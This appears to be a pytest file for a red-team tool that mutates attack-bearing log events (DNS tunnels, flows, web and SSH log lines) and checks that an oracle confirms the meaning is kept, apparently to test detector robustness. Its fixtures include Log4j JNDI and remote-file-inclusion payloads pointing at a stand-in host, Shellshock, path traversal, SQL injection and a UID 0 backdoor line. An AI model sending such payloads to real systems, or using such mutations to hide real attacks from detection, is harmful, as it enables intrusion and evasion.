"""Lookups, log lines and flows: edits change only what is the attacker's, and an oracle of its own agrees."""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections import Counter
from pathlib import Path
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.events.simulate import simulate
from overproof.redteam.base import Edited, Mutators, Oracle, mutated, one_step
from overproof.redteam.domains import domain_of
from overproof.redteam.mutate import MUTATORS
from overproof.redteam.mutate.words import WORDS
from overproof.redteam.oracle import ORACLES
from overproof.results.attack_cases import Step

HEX = "3f9a0c17be55d2e8640b9d7c1f23a8e6"
TUNNEL = f"dns client=ws-kolva query={HEX}.{HEX[::-1]}.fox.kola.example.com type=TXT rcode=NOERROR answer=aa ttl=2^3"
BASE32 = "mzxw6ytboi2dknbvgq3tsmjqmfrggzdf"  # 20 bytes
GENERATED = "dns client=10.0.0.7 query=xkwjqvbzrtpgmh.test type=A rcode=NXDOMAIN answer=- ttl=2^6"

DNS: tuple[str, ...] = (
    TUNNEL,
    f"dns client=ws-kolva query={BASE32}.fox.kola.test type=NULL rcode=NOERROR answer=bb ttl=2^0",
    f"dns client=ws-kolva query=garden.{HEX}.{BASE32[:20]}.kola.test type=CNAME rcode=NOERROR answer=bb ttl=2^1",
    f"dns client=ws-kolva query={HEX.upper()}.{HEX[4:].upper()}.KOLA.TEST type=TXT rcode=NOERROR answer=- ttl=2^1",
    f"dns query=Qm9va2luZyB0aGUgdHJhaW4gbm93.{HEX}.kola.test type=TXT",  # base64: its case is data
    f"dns client=ws-kolva query={HEX[:31]}.{HEX[:20]}.fox.kola.test type=A rcode=NOERROR answer=192.0.2.7 ttl=2^2",
    GENERATED,
    "dns client=10.0.0.7 query=b7c19e02f4ad31.example.com type=A rcode=NOERROR answer=203.0.113.9 ttl=2^4",
    "dns client=ws-mira query=login-kola-17.invalid type=A rcode=NOERROR answer=198.51.100.3 ttl=2^1",
    "dns client=ws-mira query=secret.corp.test type=AXFR rcode=REFUSED answer=- ttl=2^0",
    "dns client=ws-mira query=7.2.0.192.in-addr.arpa type=PTR rcode=NOERROR answer=a.example.com ttl=2^8",
    "dns client=ws-mira query=_acme-challenge.3f9a0c17be55.kola.test type=TXT rcode=NOERROR answer=c0ffee ttl=2^8",
)

FLOWS: tuple[str, ...] = (
    "flow sensor=kolva proto=tcp service=ssl state=SF duration=2^9s orig_host=10.0.0.7 orig_bytes=2^30 "
    "resp_host=192.0.2.9 resp_bytes=2^10",
    "flow proto=udp service=dns state=S0 duration=2^0s orig_host=10.0.0.7 orig_bytes=0 resp_host=192.0.2.9",
    "flows host=kolva src=10.0.0.7 dst=files.example.com conns=2^4 ports=2^0 peers=2^0 failed=10% gap=2^5s jitter=2^1%",
    "flows host=kolva src=10.0.0.7 dst=10.0.0.0/24 conns=2^7 ports=2^0 peers=2^6 failed=70% gap=2^0s jitter=2^3%",
    "flows host=kolva src=10.0.0.7 dst=wiki.corp.test conns=2^9 ports=2^8 peers=2^0 failed=90% gap=0s jitter=2^3%",
    "flows host=kolva src=10.0.0.7 dst=10.0.0.0/24 conns=2^5 ports=2^2 peers=2^4 failed=30% gap=2^1s jitter=2^3% "
    "services=smb,ldap",
    "proto=tcp service=http conn_state=SF orig_bytes=2^10 resp_bytes=2^12 duration=2^2",
    "protocol=tcp service=private flag=S0 count=2^6 srv_count=2^2 serror_rate=1.0 same_srv_rate=0.1 dst_host_count=2^7",
    "protocol=tcp service=ftp_data flag=SF duration=2^3 src_bytes=2^11 hot=1 logged_in=1 count=1 srv_count=1",
)

AGENT = "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0"


def access(target: str, method: str = "GET", status: int = 404, client: str = '"-" "curl/7.68.0"') -> str:
    """Write a line of an access log, in the combined format."""
    return f'203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "{method} {target} HTTP/1.1" {status} 162 {client}'.rstrip()


LINES: tuple[str, ...] = (
    access("/foo?a=information_schema.tables"),
    access("/foo?a=prompt("),
    access("/wp-login.php", "POST", 200, f'"https://shop.example.com/wp-login.php" "{AGENT}"'),
    access("/.env"),
    access("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd"),
    access("/static/../../../../etc/passwd"),
    access("/%%32%65%%32%65/etc/passwd"),
    access("/a/..;/manager/html"),
    access("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST", 200, '"-" "foobar"'),
    access("/index.php?page=http://192.0.2.1/shell.txt?"),
    access("/index.php?-d+allow_url_include%3don"),
    access("/?8890121518", "GET", 200, f'"https://www.example.com/search?q=x" "{AGENT}"'),
    access("/?x=${jndi:ldap://192.0.2.1/a}"),
    access("/?id=1%27%20OR%20%271%27=%271&id=2"),
    access("/", "GET", 200, '"${jndi:ldap://192.0.2.1/a}" "() { :;}; echo"'),
    access("//evil.example.com/%2f..", "GET", 302, '"" ""'),
    access("/shop/garden?garden=1&window=2", "GET", 200, ""),
    f"Mar  1 10:00:00 kolva nginx[2869]: {access('/wp-login.php', 'POST')}",
    '{"level":"error","msg":"handled","request":{"client_ip":"203.0.113.9","method":"GET","uri":"/.git/config?a=1",'
    '"headers":{"User-Agent":["curl/7.88.1"],"Accept":["*/*"]}},"status":404}',
    '2026-03-01T10:00:00Z stdout F {"method":"GET","x-envoy-origin-path":"/admin","user-agent":"zgrab/0.x"}',
    '{"ClientHost":"203.0.113.9","RequestPath":"/a/../../etc/passwd","request_User-Agent":"-"}',
    "level=error msg=\"Unsuccessful attempt by user 'kola1': user not found\" remote_ip=203.0.113.9",
    f"www.example.com {access('/phpmyadmin/index.php?lang=en')}",
    access("/robots.txt", "HEAD", 200, '"-" "Nikto/2.1.6 \\"quoted\\""'),
    '203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "\\x16\\x03\\x01" 400 162 "-" "-"',
    '203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "CONNECT mail.example.com:25 HTTP/1.1" 400 166 "-" "-"',
    "Mar  1 10:00:00 kolva sshd[2278]: Invalid user hadoop from 203.0.113.9 port 56762",
    "Mar  1 10:00:00 kolva sshd[2278]: Failed password for invalid user test1 from 203.0.113.9 port 5676 ssh2",
    "Mar  1 10:00:00 kolva sshd[2278]: Failed password for root from 203.0.113.9 port 5676 ssh2",
    "<38>1 2026-03-01T10:00:00+00:00 kolva sshd 44255 - [meta] Invalid user tutu from 203.0.113.9 port 33166",
    "10:00:00 kolva sshd[17151]: Failed password for mira.troux from 203.0.113.9 repeated 40 times, then accepted",
    "10:00:00 kolva login[17151]: session opened for user mira.troux after 300 failed attempts from 203.0.113.9",
    "10:00:00 kolva sshd[17151]: Accepted password for mira.troux from 203.0.113.9 after 88 failures",
    "10:00:00 kolva sudo[17151]: mira.troux : 5 incorrect password attempts ; USER=root ; COMMAND=/bin/bash",
    "10:00:00 kolva login[17151]: PAM 5 more authentication failures; rhost=203.0.113.9 user=mira.troux",
    "10:00:00 kolva sudo[17151]: new user: name=kola, UID=0, GID=0, home=/root, by mira.troux",
    "10:00:00 kolva sudo[17151]: mira : TTY=pts/3 ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers.d/kola",
    "10:00:00 kolva sshd[17151]: single failures across 90 users; rhost=203.0.113.9 accepted user=mira.troux",
    "10:00:00 kolva iam[17151]: by account staff-kola granted role wheel to account admin-mira",
)

PAYLOADS = {"dns": DNS, "flow": FLOWS, "line": LINES}
NAMES = [(domain, name) for domain in PAYLOADS for name in MUTATORS[domain]]
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)
PIECES = st.sampled_from(
    ["dns ", "flow ", "flows ", "query=", "type=TXT", " ", ".", "=2^3", "gap", "s", HEX, "x", "\ud800", "\x00", "%",
     "/", '"', '1 - - [] "GET /', ' HTTP/1.1" 200 1 ', "Invalid user ", "?", "&", "sshd[1]: ",
     " port ", "7", '{"uri":"/', '"}', "user 'a' not found"]
)  # fmt: skip
HALF_RIGHT = st.lists(PIECES, max_size=14).map("".join)


def chain(text: str, mutators: Mutators, seed: int) -> Edited:
    random, edited = Random(seed), Edited(text)
    for _ in range(random.randint(1, 6)):
        edited = mutated(edited, mutators, random) or edited
    return edited


def meaning(domain: str, original: str, edited: str) -> str:
    judge: Oracle = ORACLES[domain]
    return judge([(original, edited)])[0].meaning


def results(domain: str, name: str, text: str) -> set[str | None]:
    return {MUTATORS[domain][name](text, Random(seed)) for seed in range(30)}


@pytest.mark.parametrize(("domain", "name"), NAMES)
@given(text=st.one_of(ANY_TEXT, HALF_RIGHT), seed=st.integers(0, 2**32))
def test_an_edit_takes_any_text_and_can_be_repeated(domain: str, name: str, text: str, seed: int) -> None:
    edit = MUTATORS[domain][name]
    assert edit(text, Random(seed)) == edit(text, Random(seed))


@pytest.mark.parametrize("domain", PAYLOADS)
@given(texts=st.tuples(st.one_of(ANY_TEXT, HALF_RIGHT), st.one_of(ANY_TEXT, HALF_RIGHT)))
def test_an_oracle_takes_any_texts(domain: str, texts: tuple[str, str]) -> None:
    assert len(ORACLES[domain]([texts, (texts[0], texts[0])])) == 2


@pytest.mark.parametrize(("domain", "name"), NAMES)
def test_every_edit_finds_a_place_and_keeps_the_meaning(domain: str, name: str) -> None:
    steps = [(text, one_step(Edited(text), Step(name, 7), MUTATORS[domain])) for text in PAYLOADS[domain]]
    pairs = [(text, edited.text) for text, edited in steps if edited is not None]
    assert pairs
    assert {proof.meaning for proof in ORACLES[domain](pairs)} == {"proved"}


@pytest.mark.parametrize(("domain", "least"), [("dns", 1.0), ("flow", 0.85), ("line", 1.0)])
def test_chains_of_edits_keep_the_meaning(domain: str, least: float) -> None:
    edited = [(text, chain(text, MUTATORS[domain], seed)) for text in PAYLOADS[domain] for seed in range(120)]
    pairs = [(text, one.text) for text, one in edited if one.steps]
    counts = Counter(proof.meaning for proof in ORACLES[domain](pairs))
    assert counts["changed"] == 0
    assert counts["proved"] >= least * len(pairs)


def test_chains_keep_the_meaning_of_simulated_attacks() -> None:
    traffic = simulate(1500, seed=5).train
    counts: Counter[tuple[str, str]] = Counter()
    for row, (text, label, family) in enumerate(
        zip(*(traffic[name].to_pylist() for name in ("text", "label", "family")), strict=True)
    ):
        domain = domain_of(text, family)
        if label == "normal" or domain not in PAYLOADS:
            continue
        edited = chain(text, MUTATORS[domain], row)
        counts[domain, meaning(domain, text, edited.text) if edited.steps else "no edit"] += 1
    assert all(counts[domain, "changed"] == 0 for domain in PAYLOADS)
    assert counts["dns", "no edit"] == counts["flow", "no edit"] == 0
    for domain in PAYLOADS:
        assert counts[domain, "proved"] > 9 * counts[domain, "unproved"]


def test_chains_keep_the_meaning_of_log_lines_of_many_programs(shared_data: Path) -> None:
    with gzip.open(shared_data / "logs" / "crowdsec-hub.jsonl.gz", "rt", encoding="utf-8") as file:
        lines = sorted({row["line"] for row in map(json.loads, file) if row["has_scenario"]})
    edited = [(line, chain(line, MUTATORS["line"], row)) for row, line in enumerate(lines)]
    pairs = [(line, one.text) for line, one in edited if one.steps]
    assert len(pairs) > 300
    counts = Counter(proof.meaning for proof in ORACLES["line"](pairs))
    assert counts["changed"] == 0
    assert counts["proved"] > 0.95 * len(pairs)


def asked(text: str | None) -> str:
    """The name that a lookup asks for."""
    assert text is not None
    return text.split("query=")[1].split(" ")[0]


def test_a_tunnel_is_cut_elsewhere_and_recoded() -> None:
    cut = results("dns", "data cut elsewhere", TUNNEL)
    assert len(cut) > 10
    assert {asked(text).replace(".", "") for text in cut} == {asked(TUNNEL).replace(".", "")}
    recoded = {
        asked(text).removesuffix(".fox.kola.test") for text in results("dns", "data in another encoding", DNS[1])
    }
    assert {name.replace(".", "") for name in recoded} == {base64.b32decode(BASE32.upper()).hex()}


def test_words_come_before_a_name_and_between_a_tunnels_data() -> None:
    for text in results("dns", "word in front of the name", GENERATED):
        word, _, name = asked(text).partition(".")
        assert word in WORDS
        assert name == asked(GENERATED)
    for text in results("dns", "word among the data", TUNNEL):
        first, *_ = labels = asked(text).split(".")
        assert first == HEX
        (more,) = Counter(labels) - Counter(asked(TUNNEL).split("."))
        assert more in WORDS
    for name in ("word among the data", "data cut elsewhere", "data in another encoding", "word in the data's label"):
        assert results("dns", name, GENERATED) == {None}


def test_a_name_that_may_hold_base64_keeps_its_case() -> None:
    assert results("dns", "name in another case", DNS[4]) == {None}
    assert {asked(text).lower() for text in results("dns", "name in another case", TUNNEL)} == {asked(TUNNEL)}


@pytest.mark.parametrize("text", DNS[-3:])
def test_a_zone_an_address_and_a_service_get_no_labels(text: str) -> None:
    assert {name for name in MUTATORS["dns"] if results("dns", name, text) != {None}} == {"name in another case"}


def test_a_flow_only_rises() -> None:
    assert results("flow", "more bytes sent", FLOWS[0]) == {FLOWS[0].replace("2^30", "2^31")}
    assert results("flow", "more bytes sent", FLOWS[1]) == {None}  # a connection that never was carries none
    assert results("flow", "longer pauses", FLOWS[2]) == {FLOWS[2].replace("gap=2^5s", "gap=2^6s")}
    assert results("flow", "more ports", FLOWS[2]) == {FLOWS[2].replace("ports=2^0", "ports=2^1")}
    assert results("flow", "more peers", FLOWS[2]) == {None}  # its one peer is named
    counted = FLOWS[7].replace("count=2^6 srv_count=2^2", "count=2^7 srv_count=2^3")
    assert results("flow", "more connections to the host", FLOWS[7]) == {counted}


def test_a_request_gets_words_beside_what_it_holds() -> None:
    parameters = {
        re.sub(r"[a-z]+=[a-z]+ HTTP", "W HTTP", str(text)) for text in results("line", "parameter behind", LINES[1])
    }
    assert parameters == {LINES[1].replace("prompt( HTTP", "prompt(&W HTTP")}
    assert results("line", "step on the spot", LINES[3]) == {LINES[3].replace("/.env", "/./.env")}
    assert (
        results("line", "step on the spot", LINES[4]) == results("line", "detour through a folder", LINES[5]) == {None}
    )
    assert LINES[3].replace("/.env", "/.e%6ev") in results("line", "letter of the path percent-encoded", LINES[3])
    assert all("curl/7.68.0" in str(text) for text in results("line", "user agent says more", LINES[3]))
    assert results("line", "parameter behind", LINES[10]) == {None}  # a query that is an argument


def test_who_tries_to_log_in_tries_other_names_from_other_ports() -> None:
    invalid, root = LINES[-13], LINES[-11]
    names = {str(text).split("user ")[1].split(" from")[0] for text in results("line", "another invalid user", invalid)}
    assert len(names) > 10
    assert results("line", "another invalid user", root) == {None}
    unknown = results("line", "another invalid user", LINES[21])
    assert {re.sub(r"'[a-z0-9.]+'", "'kola1'", str(text)) for text in unknown} == {LINES[21]}
    tries = {
        int(re.findall(r"repeated (\d+)", str(text))[0]) for text in results("line", "more failed tries", LINES[-9])
    }
    assert min(tries) > 40


CHANGED = {
    "dns": [
        (TUNNEL, TUNNEL.replace("kola.example", "mira.example")),  # another host of the domain
        (TUNNEL, TUNNEL.replace("example.com", "example.net")),
        (TUNNEL, TUNNEL.replace("TXT", "NULL")),
        (TUNNEL, TUNNEL.replace("ws-kolva", "ws-mira")),
        (TUNNEL, TUNNEL.replace(HEX, f"0{HEX[1:]}", 1)),  # other data
        (TUNNEL, TUNNEL.replace(f"{HEX}.", "")),  # half of it
        (TUNNEL, TUNNEL.replace(f"{HEX}.{HEX[::-1]}", "garden.window")),
        (GENERATED, GENERATED.replace("xkwjqvb", "garden")),
        (GENERATED, GENERATED.replace("xkwjqvb", "xkwjqv.b")),
        (DNS[-3], DNS[-3].replace("secret", "garden.secret")),  # another zone
    ],
    "flow": [
        (FLOWS[0], FLOWS[0].replace("2^30", "2^29")),
        (FLOWS[0], FLOWS[0].replace("resp_bytes=2^10", "resp_bytes=2^11")),
        (FLOWS[0], FLOWS[0].replace("192.0.2.9", "192.0.2.8")),
        (FLOWS[0], FLOWS[0].replace(" duration=2^9s", "")),
        (FLOWS[4], FLOWS[4].replace("ports=2^8", "ports=2^0")),
        (FLOWS[4], FLOWS[4].replace("failed=90%", "failed=10%")),
        (FLOWS[3], FLOWS[3].replace("gap=2^0s", "gap=garden")),
    ],
    "line": [
        (LINES[1], LINES[1].replace("prompt(", "garden")),
        (LINES[1], LINES[1].replace("404", "200")),
        (LINES[1], LINES[1].replace("203.0.113.9", "203.0.113.8")),
        (LINES[1], LINES[1].replace("10:00:00", "10:00:01")),
        (LINES[1], LINES[1].replace("GET", "POST")),
        (LINES[5], access("/etc/passwd")),  # it no longer climbs
        (LINES[3], LINES[3].replace("/.env", "/garden/.env")),
        (LINES[14], LINES[14].replace("jndi", "garden")),  # an attack in the referer
        (LINES[17], LINES[17].replace("nginx", "httpd")),
        (LINES[18], LINES[18].replace("/.git/config", "/garden")),
        (LINES[18], LINES[18].replace("404", "200")),
        (LINES[18], LINES[18].replace("curl/7.88.1", "garden")),
        (LINES[18], LINES[18].replace('"status":404}', '"status":404')),
        (LINES[21], LINES[21].replace("203.0.113.9", "203.0.113.8")),
        (LINES[-13], LINES[-13].replace("203.0.113.9", "203.0.113.8")),
        (LINES[-13], LINES[-13].replace("Invalid", "Valid")),
        (LINES[-11], LINES[-11].replace("root", "garden")),  # a user that may exist
        (LINES[-9], LINES[-9].replace("40 times", "1 times")),
        (LINES[-2], LINES[-2].replace("failures across 90", "failures across 3")),
    ],
}
UNPROVED = {
    "dns": [("/etc/passwd", "/etc/passwd"), (DNS[4], DNS[4].replace("Qm9v", "qm9v")), ("dns query=x", "dns query=x")],
    "flow": [("alert('1')", "alert('1')"), (FLOWS[0], FLOWS[0].replace("2^30", "2^34"))],
    "line": [
        (LINES[-1], LINES[-1]),
        ("garden", "garden"),
        (LINES[1], LINES[1].replace("?a=", "?a=1&a=")),  # the first of two may be the one that counts
        ('{"msg":"login failed"}', '{"msg":"login failed"}'),
        (LINES[11], LINES[11].replace("?8890121518", "?8890121518&garden=1")),
    ],
}


@pytest.mark.parametrize(("domain", "pair"), [(domain, pair) for domain in CHANGED for pair in CHANGED[domain]])
def test_an_event_that_no_longer_does_the_same_is_changed(domain: str, pair: tuple[str, str]) -> None:
    assert pair[0] != pair[1]
    assert meaning(domain, *pair) == "changed"


@pytest.mark.parametrize(("domain", "pair"), [(domain, pair) for domain in UNPROVED for pair in UNPROVED[domain]])
def test_what_is_not_covered_is_unproved(domain: str, pair: tuple[str, str]) -> None:
    assert meaning(domain, *pair) == "unproved"
